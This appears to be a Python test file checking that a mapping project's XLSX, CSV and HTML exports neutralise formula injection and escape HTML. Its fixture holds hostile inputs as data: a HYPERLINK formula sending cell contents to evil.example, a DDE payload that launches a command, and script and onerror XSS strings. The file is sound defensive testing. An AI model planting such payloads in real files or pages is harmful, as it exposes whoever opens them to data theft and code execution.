"""Exports cannot run code (issue 8, item 4): names that are formulas stay text in XLSX and CSV,
names that are HTML stay text in the standalone HTML map."""
from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from diagioi.geo.exports import spreadsheet_text
from diagioi.layers.indicators import indicators_to_csv

from security_helpers import AUTH

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(1,2)",
            "=cmd|' /C calc'!A0", "\t=2+2", "\r=3+3"]
SCRIPT = "</title><script>alert(1)</script>"
IMAGE = '<img src=x onerror="alert(2)">'


@pytest.fixture
def hostile_scenario(client):
    new_units = [{"id": f"n{i}", "name": name, "kind": "commune", "members": [f"{i + 1:05d}"]}
                 for i, name in enumerate(FORMULAS)]
    new_units.append({"id": "img", "name": IMAGE, "kind": "ward", "members": ["00009"]})
    response = client.post("/api/scenarios", json={"name": SCRIPT, "regime": "R76", "new_units": new_units},
                           headers=AUTH)
    assert response.status_code == 201, response.text
    return response.json()["id"]


def stored_names(client, scenario_id) -> list[str]:
    """The formula names as the scenario stores them (surrounding whitespace is trimmed)."""
    body = client.get(f"/api/scenarios/{scenario_id}").json()
    new_units = body["scenario"]["new_units"]
    return [nu["name"] for nu in new_units if nu["name"] != IMAGE]


def test_xlsx_writes_every_name_as_text_not_as_a_formula(client, hostile_scenario):
    response = client.get(f"/api/scenarios/{hostile_scenario}/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in package.read(name) for name in sheets)
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = {cell.value: cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    names = stored_names(client, hostile_scenario)
    assert len(names) == len(FORMULAS)
    for name in names:
        assert name in cells, name
        assert cells[name].data_type == "s" and cells[name].quotePrefix
    assert not any(cell.data_type == "f" for cell in cells.values())


@pytest.mark.parametrize("table", ["units", "crosswalk"])
def test_csv_neutralises_formula_names(client, hostile_scenario, table):
    response = client.get(f"/api/scenarios/{hostile_scenario}/export.csv", params={"table": table})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    for name in stored_names(client, hostile_scenario):
        assert "'" + name in cells, name
        assert name not in cells


def test_html_map_escapes_the_scenario_and_unit_names(client, hostile_scenario):
    text = client.get(f"/api/scenarios/{hostile_scenario}/export.html").text
    assert "<script>alert(1)" not in text
    assert "<img src=x" not in text and "\\u003cimg" not in text
    assert "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in text


def test_the_owasp_rule_leaves_numbers_and_plain_text_alone():
    assert [spreadsheet_text(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx")] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx"]
    assert [spreadsheet_text(v) for v in ("Phường Đức Xuân", "00001", -5, 2.5, None)] == \
        ["Phường Đức Xuân", "00001", -5, 2.5, None]


def test_indicator_csv_neutralises_formula_codes_and_texts():
    frame = pd.DataFrame({"source": ["=1+2"], "industrial_area_km2": [1.5]},
                         index=pd.Index(["@SUM(A1)"], name="code"))
    buffer = io.StringIO()
    indicators_to_csv(frame, buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[1] == ["'@SUM(A1)", "'=1+2", "1.500000"]
